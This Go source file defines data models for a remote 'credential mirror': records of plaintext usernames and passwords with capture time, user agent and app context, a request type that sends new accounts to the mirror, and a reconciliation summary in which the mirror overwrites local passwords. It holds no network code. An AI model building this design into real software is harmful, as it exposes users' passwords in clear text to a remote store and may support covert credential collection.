// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 Rasul Khiriev

package models

import "time"

// MirroredCredential is a record of the remote credential mirror. Records are
// append-only and immutable; the server assigns ID and the list endpoint
// returns them ordered by CapturedAt descending.
type MirroredCredential struct {
	ID         int64     `json:"id"`
	Username   string    `json:"username"`
	Password   string    `json:"password"`
	CapturedAt Timestamp `json:"captured_at"`
	UserAgent  string    `json:"user_agent"`
	AppContext string    `json:"app_context"`
}

// MirrorWriteRequest is the body sent to the mirror when a new account is
// replicated. ID is omitted because the server assigns it.
type MirrorWriteRequest struct {
	Username   string    `json:"username"`
	Password   string    `json:"password"`
	CapturedAt time.Time `json:"captured_at"`
	UserAgent  string    `json:"user_agent"`
	AppContext string    `json:"app_context"`
}

// ReconcileResult summarises one reconciliation pass.
type ReconcileResult struct {
	// Fetched is the number of mirror records received.
	Fetched int `json:"fetched"`
	// Added counts usernames synthesized into the registry.
	Added int `json:"added"`
	// Updated counts local passwords overwritten by the mirror.
	Updated int `json:"updated"`
	// Persisted reports whether the registry was written.
	Persisted bool `json:"persisted"`
}

// Changed reports whether the pass mutated the registry.
func (r ReconcileResult) Changed() bool {
	return r.Added > 0 || r.Updated > 0
}
